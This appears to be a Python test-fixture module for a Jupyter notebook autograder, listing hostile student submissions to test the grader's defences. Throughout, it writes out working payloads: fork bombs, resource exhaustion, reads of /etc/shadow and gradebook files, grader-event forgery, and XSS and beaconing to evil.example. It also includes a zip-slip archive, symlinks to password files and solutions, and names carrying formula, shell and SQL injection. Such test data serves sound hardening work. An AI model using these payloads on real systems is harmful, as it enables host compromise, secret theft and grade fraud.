"""What hostile learners hand in, as data: each attack has a name, what is handed in, and what its learner reads.

Two kinds. Code is written where the answer to the lesson's second task belongs; the first task is answered honestly,
before it, and is all that such a notebook may earn. Files are put into the learner's folder, in place of a notebook or
beside one.
"""

from __future__ import annotations

import io
import json
import os
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

Notebook = dict[str, Any]

NOT_A_NOTEBOOK = "This file is not a notebook."
NO_CHART = "Python does not know “chart”."
CUT_SHORT = "A cell ended the whole notebook before this task was reached."
TOO_LONG = "was stopped before this task"
HONEST, FULL = 2.0, 5.0
"""Points of the first task, and of both that are checked."""


@dataclass(frozen=True)
class Code:
    """A cell in the place of an answer. `{course}` is where the course really lies."""

    name: str
    cell: str
    says: str = NO_CHART
    points: float = HONEST


@dataclass(frozen=True)
class File:
    """`put` gets the learner's folder, the notebook with all the right answers, and the course's folder."""

    name: str
    put: Callable[[Path, Notebook, Path], None]
    says: str = NOT_A_NOTEBOOK
    points: float = 0.0


# -- code -------------------------------------------------------------------------------------------------------------

_ENDS = [
    Code("leaves-with-sys-exit", "import sys\nsys.exit(0)"),
    Code("leaves-with-os-exit", "import os\nos._exit(0)", CUT_SHORT),
    Code("crashes-the-interpreter", "import ctypes\nctypes.string_at(0)", CUT_SHORT),
    Code("kills-its-parent-and-all-others", """
import os, signal
for process in (os.getppid(), -1, 0, *range(2, 400)):
    try: os.kill(process, signal.SIGKILL)
    except OSError: pass
os.abort()""", CUT_SHORT),
    Code("loops-without-end", "while True: pass"),
    Code("loops-and-swallows-interrupts", """
import time
while True:
    try:
        while True: time.sleep(0.1)
    except BaseException: pass""", TOO_LONG),
    Code("turns-the-alarm-off-and-loops", """
import signal
for number in range(1, 64):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
while True: pass""", TOO_LONG),
    Code("leaves-children-behind", """
import os, time
for _ in range(5):
    if os.fork() == 0:
        os.setsid()
        time.sleep(600)"""),
    Code("forks-without-end", """
import os
children = 0
try:
    while True:
        if os.fork() == 0:
            while True: os.fork()
        children += 1
except OSError: pass
print(children)"""),
    Code("takes-all-memory", "hoard = []\nwhile True: hoard.append(bytearray(50_000_000))"),
    Code("fills-the-disk", """
import os
for folder in (".", "/tmp", "/dev/shm"):
    try:
        with open(folder + "/big", "wb") as file:
            while True: file.write(b"0" * 10_000_000)
    except OSError as error: print(error)"""),
    Code("prints-without-end", "for _ in range(40): print('x' * 1_000_000)"),
    Code("draws-without-end", """
from IPython.display import HTML, display
for _ in range(20): display(HTML("<b>x</b>" * 200_000))"""),
]  # fmt: skip

_STEALS = [
    Code("reads-files-of-the-host", """
import glob, os
places = ["/etc/shadow", "/etc/passwd", "/proc/1/environ", "{course}", "{course}/gradebook.db", "{course}/nbgrader_config.py"]
places += glob.glob("{course}/**", recursive=True) + glob.glob("/root/**") + glob.glob("/home/**") + glob.glob("/proc/*/environ")
for place in places:
    try: print(place, open(place, "rb").read()[:10_000_000])
    except OSError as error: pass
print(dict(os.environ))"""),
    Code("reads-its-own-memory", r"""
import re
found = set()
for line in open("/proc/self/maps"):
    low, high = (int(part, 16) for part in line.split()[0].split("-"))
    try:
        with open("/proc/self/mem", "rb", 0) as memory:
            memory.seek(low)
            found |= set(re.findall(rb"canary-[0-9a-f]{{16}}|Show the loans of every|secret of [a-z ]+", memory.read(high - low)))
    except (OSError, ValueError, OverflowError, MemoryError): pass
# The pattern itself is there, in parts: of what was found, whole words only.
print([each for each in found if each[:6] == b"canary"])"""),
    Code("looks-through-the-interpreter", """
import gc, sys
for thing in gc.get_objects():
    try:
        text = repr(thing) if isinstance(thing, (dict, list, str, bytes)) and len(thing) < 1000 else ""
    except Exception: continue
    if "HIDDEN" + " TESTS" in text: print(text)
frame = sys._getframe()
while frame:
    print({{name: value for name, value in frame.f_locals.items() if name in ("job", "check", "checks")}})
    frame = frame.f_back
print(open("/proc/self/fd/3").read() if __import__("os").path.exists("/proc/self/fd/3") else "closed")"""),
    Code("writes-to-the-host", """
import os
for place in ("{course}/pwned", "{course}/gradebook.db", "/tmp/pwned-by-a-notebook", "/usr/pwned", "branches.csv", "/academy/inside/answers.py"):
    try:
        with open(place, "wb") as file: file.write(b"pwned")
    except OSError as error: print(place, error)
chart = open("branches.csv").read()""", "This is not a chart."),
    Code("calls-out", """
import socket
for address in (("1.1.1.1", 53), ("127.0.0.1", 22), ("169.254.169.254", 80)):
    try: socket.create_connection(address, timeout=1); print("connected")
    except OSError as error: print(error)"""),
]  # fmt: skip

_DECEIVES = [
    Code("strips-asserts-from-what-is-parsed", """
import ast
class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
get_ipython().ast_transformers.append(NoAsserts())"""),
    Code("strips-asserts-from-what-is-typed", """
def no_asserts(lines): return [line for line in lines if not line.startswith("assert")]
get_ipython().input_transformers_cleanup.append(no_asserts)
get_ipython().input_transformers_post.append(no_asserts)"""),
    Code("prints-every-cell-before-it-runs", """
get_ipython().events.register("pre_run_cell", lambda info: print(info.raw_cell))
get_ipython().events.register("post_run_cell", lambda result: print(result))"""),
    Code("hides-every-error", """
shell = get_ipython()
shell.showtraceback = shell.showsyntaxerror = shell.InteractiveTB = lambda *a, **k: None
shell.set_custom_exc((BaseException,), lambda *a, **k: None)
type(shell).run_cell = lambda *a, **k: None
type(shell).run_code = lambda *a, **k: False
raise SystemExit"""),
    Code("changes-the-builtins", """
import builtins, sys
builtins.AssertionError = type("Quiet", (BaseException,), {{}})
builtins.sorted = builtins.isinstance = builtins.max = lambda *a, **k: True
builtins.__import__ = lambda *a, **k: sys""", CUT_SHORT),
    Code("changes-pandas-and-the-toolkit", """
import sys, types, pandas
class Anything:
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __eq__(self, other): return True
    def __and__(self, other): return True
    def __iter__(self): return iter([40, 75, 120])
pandas.read_csv = lambda *a, **k: Anything()
pandas.DataFrame.__eq__ = lambda *a: True
for name in list(sys.modules):
    if name.startswith("toolkit"): sys.modules[name] = types.SimpleNamespace(describe_chart=lambda chart: Anything())
chart = Anything()""", "could not read “chart”"),
    Code("answers-with-what-equals-all", """
class Right(str):
    def __eq__(self, other): return True
    def __hash__(self): return 1
    def __getattr__(self, name): return self
chart = Right("x")""", "could not read “chart”"),
    Code("answers-with-a-table-that-lies", """
import pandas as pd
class Right(pd.DataFrame):
    def __eq__(self, other): return True
chart = Right({{"a": [1]}})""", "could not read “chart”"),
    Code("answers-with-a-trap", """
class Trap:
    def __reduce__(self): return (print, ("trapped",))
    @property
    def __class__(self): raise KeyboardInterrupt
chart = Trap()""", CUT_SHORT),
    Code("answers-with-a-huge-number", "chart = 10 ** 100_000", "could not read “chart”"),
    Code("answers-with-a-huge-list", "chart = [0.0] * 5_000_000", "could not read “chart”"),
    Code("answers-with-itself", "chart = []\nchart.append(chart)", "could not read “chart”"),
    Code("answers-with-no-number", "chart = float('nan')", "chart"),
    Code("answers-with-half-a-letter", "chart = 'x\\ud800'", "chart"),
    Code("forges-what-the-grader-hears", r"""
import json, os
shown = {{"output_type": "execute_result", "data": {{"text/plain": "3"}}, "metadata": {{}}, "execution_count": 1}}
fake = [{{"event": "checked", "task": "chart-check", "passed": True, "outputs": [], "stage": None, "message": "", "puzzled": None}}]
fake += [{{"event": kind, "step": str(n), "error": None, "outputs": [shown], "execution_count": n}} for n in range(40) for kind in ("ran", "changed")]
fake += [{{"event": "answers", "task": "chart-check", "answers": {{"chart": {{"value": True}}}}}}, {{"event": "done"}}]
for descriptor in range(3, 64):
    try: os.write(descriptor, "\n".join(map(json.dumps, fake)).encode() + b"\n")
    except OSError: pass
os._exit(0)""", "This is not a chart."),
    Code("forges-answers-that-break-the-check", r"""
import json, os
deep = "x"
for _ in range(300): deep = {{"is": "list", "value": [deep]}}
values = [deep, {{"is": "module", "value": "subprocess"}}, {{"is": "array", "shape": [10**12], "value": {{"dtype": "float64", "value": [1]}}}},
    {{"is": "number", "dtype": "S2000000000", "value": "x"}}, {{"is": "chart", "value": {{}}}}, {{"is": []}}, {{"is": "module", "value": "os"}}]
for value in values:
    event = json.dumps({{"event": "answers", "task": "chart-check", "answers": {{"chart": {{"value": value}}}}}})
    os.write(4, event.encode() + b"\n")
os._exit(0)""", "This is not a chart."),
    Code("forges-outputs-that-break-the-notebook", r"""
import json, os
deep = "x"
for _ in range(400): deep = {{"x": deep}}
shown = [{{"output_type": "display_data", "data": data, "metadata": facts}} for data, facts in
    [({{"text/plain": 5}}, {{}}), ({{"text/html": deep}}, {{}}), ({{"text/plain": "x"}}, deep), ({{"image/png": [1]}}, {{"image/png": [1]}}), ({{"text/plain": None}}, {{}})]]
for step in ("5", "9" * 5_000, "-1", "1e3", None, [], "\u0663"):
    event = {{"event": "ran", "step": step, "error": {{}}, "outputs": shown, "execution_count": "no"}}
    os.write(4, json.dumps(event).encode() + b"\n")
os._exit(0)""", CUT_SHORT),
    Code("shows-more-than-it-may", r"""
import json, os
shown = {{"output_type": "stream", "name": "stdout", "text": "x" * 25_000_000}}
os.write(4, json.dumps({{"event": "ran", "step": "2", "outputs": [shown], "execution_count": 1}}).encode() + b"\n")
os._exit(0)""", CUT_SHORT),
]  # fmt: skip

SCRIPTS = r"""
from IPython.display import HTML, Javascript, Markdown, SVG, display
hostile = "<script>document.title = 'pwned'</script><img src=x onerror=\"document.title='pwned'\"><iframe srcdoc=\"<script>parent.document.title='pwned'</script>\"></iframe>"
display(HTML(hostile), Javascript("document.title = 'pwned'"), Markdown(hostile + " [go](javascript:document.title='pwned')"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload=\"document.title='pwned'\"><script>document.title='pwned'</script></svg>"))
display({{"image/png": "AAAA"}}, raw=True, metadata={{"image/png": {{"width": "1 onerror=document.title='pwned'"}}}})
display({{"image/png": "AAAA"}}, raw=True, metadata={{"filenames": {{"image/png": "https://evil.example/beacon.png"}}}})
display({{"image/png": "\"><script>document.title='pwned'</script>"}}, raw=True)
display({{"text/latex": hostile, "text/plain": hostile}}, raw=True)
display({{"application/vnd.jupyter.widget-view+json": {{"model_id": "</script><script>document.title='pwned'</script>"}}}}, raw=True)
display(HTML("<a href=\" java\tscript:document.title='pwned'\">click</a><form action=https://evil.example><input name=password></form>"))
display(HTML("<div style=\"position:fixed;inset:0;background:url(https://evil.example/x.png)\">covers all</div><link rel=stylesheet href=https://evil.example/x.css>"))
display(HTML("<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=document.title='pwned'&gt;\">"))
print("\x1b]0;pwned\x07\x1b[2J\x00\x08 \u202e <script>document.title = 'pwned'</script>")
raise ValueError("\x1b[31m<script>document.title = 'pwned'</script>")"""

_SHOWS = [
    Code("shows-scripts", SCRIPTS),
    Code("shows-control-characters", "print('\\x00\\x1b[2J\\x1b]0;t\\x07\\x08\\r' * 50)\nraise ValueError('\\x00\\x1bc\\u202e')"),
]  # fmt: skip

# -- files ------------------------------------------------------------------------------------------------------------

NAME = "count-books"


def _is(content: bytes) -> Callable[[Path, Notebook, Path], None]:
    """The file is this, whatever it may be."""

    def put(folder: Path, solved: Notebook, course: Path) -> None:
        (folder / f"{NAME}.ipynb").write_bytes(content)

    return put


def _with(change: Callable[[Notebook], object]) -> Callable[[Path, Notebook, Path], None]:
    """The notebook with all the right answers, changed."""

    def put(folder: Path, solved: Notebook, course: Path) -> None:
        change(solved)
        (folder / f"{NAME}.ipynb").write_text(json.dumps(solved), encoding="utf-8")

    return put


def _beside(make: Callable[[Path], object]) -> Callable[[Path, Notebook, Path], None]:
    """The notebook with all the right answers, and something beside it."""

    def put(folder: Path, solved: Notebook, course: Path) -> None:
        (folder / f"{NAME}.ipynb").write_text(json.dumps(solved), encoding="utf-8")
        make(folder)

    return put


def _link(target: str) -> Callable[[Path, Notebook, Path], None]:
    def put(folder: Path, solved: Notebook, course: Path) -> None:
        (folder / f"{NAME}.ipynb").symlink_to(target.format(course=course))

    return put


def _made(make: Callable[[Path], object]) -> Callable[[Path, Notebook, Path], None]:
    return lambda folder, solved, course: _nothing(make(folder / f"{NAME}.ipynb"))


def _nothing(_: object) -> None:
    """For what only has an effect."""


def _cell(notebook: Notebook, id: str) -> dict[str, Any]:
    found: dict[str, Any] = next(cell for cell in notebook["cells"] if cell.get("id") == id)
    return found


def _text(path: Path, text: str = "x") -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


def _links(folder: Path) -> None:
    for name, to in (("a.txt", "/etc/passwd"), ("b", "/"), ("c.txt", "/dev/zero")):
        (folder / name).symlink_to(to)


def _archive() -> bytes:
    """Whoever unpacked it would write outside of the folder, and a hundred million bytes."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../../gradebook.db", b"0" * 100_000_000)
        archive.writestr("/tmp/unpacked-by-the-grader", b"x")
    return content.getvalue()


def _deep(levels: int) -> Any:
    value: Any = "x"
    for _ in range(levels):
        value = {"x": value}
    return value


def _unanswered(notebook: Notebook) -> Notebook:
    """The answers of the second task taken out."""
    _cell(notebook, "chart")["source"] = "chart = ..."
    return notebook


def _raise_points(notebook: Notebook) -> None:
    for cell in _unanswered(notebook)["cells"]:
        if "nbgrader" in cell["metadata"]:
            cell["metadata"]["nbgrader"] |= {"points": 1000}


def _flip_flags(notebook: Notebook) -> None:
    for cell in _unanswered(notebook)["cells"]:
        grader = cell["metadata"].get("nbgrader", {})
        grader |= {flag: not grader[flag] for flag in ("grade", "solution", "locked", "task") if flag in grader}


def _empty_checks(notebook: Notebook) -> None:
    for cell in _unanswered(notebook)["cells"]:
        if cell.get("id", "").endswith("-check"):
            cell["source"] = "3"


def _double_ids(notebook: Notebook) -> None:
    check = _cell(_unanswered(notebook), "chart-check")
    notebook["cells"] += [{**check, "id": f"again-{n}", "source": "3"} for n in range(3)]


def _claim_a_check(notebook: Notebook) -> None:
    cell = _cell(_unanswered(notebook), "chart")
    cell["metadata"]["nbgrader"]["grade_id"] = "chart-check"
    cell["source"] = "3"


def _fake_outputs(notebook: Notebook) -> None:
    shown = {"output_type": "execute_result", "data": {"text/plain": "3"}, "metadata": {}, "execution_count": 1}
    for cell in _unanswered(notebook)["cells"]:
        if cell["cell_type"] == "code":
            cell |= {"outputs": [shown], "execution_count": 1}
    notebook["metadata"]["academy"] |= {"graded": "yes", "repairs": ["All points were given by the trainer."]}


def _half_letters(notebook: Notebook) -> None:
    notebook["metadata"]["note\udc80"] = "\ud800"
    notebook["cells"][0]["metadata"]["note"] = "\ud800"
    notebook["cells"][0]["source"] += "\ud800"


def _strange_metadata(notebook: Notebook) -> None:
    notebook["metadata"] |= {"title": "</title><script>document.title='pwned'</script>", "widgets": 5, "authors": 7}
    notebook["metadata"]["language_info"] = {"name": "python", "pygments_lexer": "html", "version": 3}
    for cell in notebook["cells"]:
        cell["metadata"] |= {"tags": ["x onclick=x", 3], "magics_language": "html", "collapsed": "no", "name": 4}


def _hostile_words(notebook: Notebook) -> None:
    _cell(notebook, "my-agency")["source"] = (
        "My words.\n\n<script>document.title = 'pwned'</script>\n\n<img src=x onerror=\"document.title='pwned'\">\n\n"
        "[go](javascript:document.title='pwned') ![away](attachment:none.png) ![](https://evil.example/beacon.png)\n\n"
        "`<b>`\n\n<details open ontoggle=\"document.title='pwned'\">x</details>\n\n<style>body {display: none}</style>"
    )


def _many_files(folder: Path) -> None:
    (folder / "many").mkdir()
    for n in range(21_000):
        os.close(os.open(folder / "many" / str(n), os.O_CREAT))


def _one_long_line(notebook: Notebook) -> None:
    _cell(notebook, "chart")["source"] = "chart = '" + "x" * 20_000_000 + "'"


def _device(path: Path) -> None:
    """A real one where that is allowed."""
    try:
        os.mknod(path, 0o20666, os.makedev(1, 5))
    except PermissionError:
        path.symlink_to("/dev/zero")


def _without_kernel(notebook: Notebook) -> None:
    notebook["metadata"]["kernelspec"] = {"name": "../../bin/sh", "display_name": "\x1b[2J", "language": "r"}


_FILES = [
    File("hands-in-no-json", _is(b"{ this is no notebook")),
    File("hands-in-no-text", _is(b"\xff\xfe\x00\x80" * 100)),
    File("hands-in-nothing", _is(b"")),
    File("hands-in-an-archive-that-climbs-and-swells", lambda folder, solved, course: _is(_archive())(folder, solved, course)),
    File("brings-an-archive-that-climbs-and-swells", _beside(lambda f: (f / "more.zip").write_bytes(_archive())), "Check", FULL),
    File("hands-in-brackets", _is(b"[" * 100_000)),
    File("hands-in-a-long-number", _is(b'{"cells": [], "nbformat": ' + b"9" * 10_000 + b"}")),
    File("hands-in-format-3", _is(b'{"nbformat": 3, "worksheets": [{"cells": []}]}'), "not supported"),
    File("hands-in-format-99", _with(lambda solved: solved.update(nbformat=99)), "not supported"),
    File("hands-in-no-cells", _with(lambda solved: solved.update(cells=[])), "This notebook is empty."),
    File("hands-in-too-many-cells", _with(lambda n: n.update(cells=n["cells"] * 100)), "more than 500 cells"),
    File("hands-in-fifty-megabytes", _is(b" " * 50_000_000), "larger than 5 MB"),
    File("hands-in-one-long-line", _with(_one_long_line), "larger than 5 MB"),
    File("hands-in-a-wrong-kernel", _with(_without_kernel), "Check", FULL),
    File("hands-in-another-lesson", _with(lambda n: n["metadata"]["academy"].update(lesson="other")), "does not belong"),
    File("hands-in-deep-metadata", _with(lambda n: n["metadata"].update(deep=_deep(450)))),
    File("hands-in-deep-cells", _with(lambda n: n["cells"][0]["metadata"].update(deep=_deep(450)))),
    File("hands-in-half-letters", _with(_half_letters), "Check", FULL),
    File("hands-in-strange-metadata", _with(_strange_metadata), "Check", FULL),
    File("hands-in-huge-points", _with(lambda n: [c["metadata"].get("nbgrader", {}).update(points=10**400) for c in n["cells"]]), "put back", FULL),
    File("raises-its-points", _with(_raise_points), "put back", HONEST),
    File("flips-its-flags", _with(_flip_flags), "Check", HONEST),
    File("empties-the-checks", _with(_empty_checks), "put back", HONEST),
    File("doubles-a-check", _with(_double_ids), "Check", HONEST),
    File("claims-a-check", _with(_claim_a_check), "Check", HONEST),
    File("fakes-outputs", _with(_fake_outputs), "Check", HONEST),
    File("writes-hostile-words", _with(_hostile_words), "My words.", FULL),
    File("links-to-the-gradebook", _link("{course}/gradebook.db")),
    File("links-to-the-passwords", _link("/etc/passwd")),
    File("links-to-another-s-notebook", _link(f"{{course}}/submitted/00-honest/{NAME}/{NAME}.ipynb")),
    File("links-to-the-solution", _link(f"{{course}}/source/{NAME}/{NAME}.ipynb")),
    File("hands-in-a-pipe", _made(os.mkfifo)),
    File("hands-in-a-device", _made(_device)),
    File("hands-in-a-folder", _made(lambda path: _text(path / "inside.txt"))),
    File("brings-a-pandas", _beside(lambda f: [_text(f / name, "raise SystemExit") for name in ("pandas.py", "pandas/__init__.py", "sitecustomize.py", "toolkit.py")]), "Check", FULL),
    File("brings-other-data", _beside(lambda f: _text(f / "branches.csv", "branch,loans\nHilltop,999\n")), "Check", FULL),
    File("brings-a-folder-named-as-the-data", _beside(lambda f: _text(f / "branches.csv" / "x.txt")), "Check", FULL),
    File("brings-a-folder-named-as-the-page", _beside(lambda f: _text(f / f"{NAME}.html" / "x.txt")), "Check", FULL),
    File("brings-names-that-climb", _beside(lambda f: [_text(f / name) for name in ("..\\..\\up.txt", "..%2f..%2fup.txt", "\x1b[2Jup\n.txt", "…/up.txt")]), "Check", FULL),
    File("brings-a-name-of-no-letters", _beside(lambda f: (Path(os.fsdecode(os.fsencode(f) + b"/\xff\xfe.txt"))).write_text("x")), "Check", FULL),
    File("brings-too-many-files", _beside(_many_files), "Check", FULL),
    File("brings-links", _beside(_links), "Check", FULL),
    File("brings-a-pipe-as-its-timestamp", _beside(lambda f: os.mkfifo(f / "timestamp.txt")), "Check", FULL),
    File("brings-an-endless-timestamp", _beside(lambda f: (f / "timestamp.txt").symlink_to("/dev/zero")), "Check", FULL),
    File("brings-a-timestamp-of-no-time", _beside(lambda f: _text(f / "timestamp.txt", "0001-01-01 00:00:00 +9999")), "Check", FULL),
]  # fmt: skip

CODE: list[Code] = [*_ENDS, *_STEALS, *_DECEIVES, *_SHOWS]
FILES: list[File] = _FILES
NAMES = ['=HYPERLINK("http:§evil.example?"&A1,"click")', "Doe, Jr.", "-1+1|calc", "$(id)", "'; DROP TABLE student; --"]
"""Learners who did everything right, and are called so."""
